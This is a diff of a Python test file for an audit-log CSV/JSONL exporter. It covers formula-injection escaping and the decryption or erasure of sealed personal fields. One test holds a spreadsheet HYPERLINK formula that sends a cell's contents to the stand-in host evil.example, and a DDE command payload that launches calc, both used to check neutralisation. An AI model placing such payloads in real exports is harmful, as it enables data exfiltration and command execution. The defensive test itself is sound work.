@@ -58,11 +58,45 @@ def test_other_cells_are_written_as_they_are():
     assert csv_cell("data", {"name": "=1+1"}) == '{"name":"=1+1"}'  # JSON text starts with { or [
 
 
-def test_a_forged_correlation_id_reaches_the_file_as_text():
+async def test_a_forged_correlation_id_reaches_the_file_as_text():
     row = ["" for _ in EXPORT_FIELDS]
     row[EXPORT_FIELDS.index("correlation_id")] = '=HYPERLINK("http://evil.example/?"&A1,"open")'
     row[EXPORT_FIELDS.index("aggregate_id")] = "@SUM(1+1)*cmd|' /C calc'!A0"
-    [parsed] = list(csv.DictReader(io.StringIO(_csv([row], header=True))))
+    [parsed] = list(csv.DictReader(io.StringIO(await _csv([row], header=True))))
     assert parsed["correlation_id"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
     assert parsed["aggregate_id"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
     assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in parsed.values())
+
+
+async def test_csv_shows_sealed_personal_fields_opened_or_erased_while_jsonl_keeps_the_stored_form(key_provider):
+    import json
+
+    from services.audit.endpoints import _jsonl
+    from shared.contracts.clients import ClientCreated
+    from shared.contracts.privacy import ERASED
+    from shared.privacy.fields import seal_data
+    from tests import events
+
+    person = events.client_created(kind="individual", name="Σοφία Νικολάου", email="sofia@example.gr")
+    sealed = await seal_data(ClientCreated, person.model_dump(mode="json"), event_id="ev-csv")
+    row = ["" for _ in EXPORT_FIELDS]
+    row[EXPORT_FIELDS.index("seq")] = 1
+    row[EXPORT_FIELDS.index("event_id")] = "ev-csv"
+    row[EXPORT_FIELDS.index("data")] = sealed
+    row[EXPORT_FIELDS.index("changes")] = [{"field": "email", "before": None, "after": sealed["email"]}]
+
+    async def cells() -> tuple[dict, list]:
+        [parsed] = list(csv.DictReader(io.StringIO(await _csv([row], header=True))))
+        return json.loads(parsed["data"]), json.loads(parsed["changes"])
+
+    data, changes = await cells()
+    assert (data["name"], data["email"], changes[0]["after"]) == (
+        "Σοφία Νικολάου",
+        "sofia@example.gr",
+        "sofia@example.gr",
+    )
+    assert json.loads(_jsonl([row]))["data"] == sealed  # what the chain hashed, to recompute it
+    key_provider.destroy(f"client:{person.client_id}")
+    data, changes = await cells()
+    assert (data["name"], data["email"], changes[0]["after"]) == (ERASED, ERASED, ERASED)
+    assert row[EXPORT_FIELDS.index("data")] == sealed  # the row itself is not changed
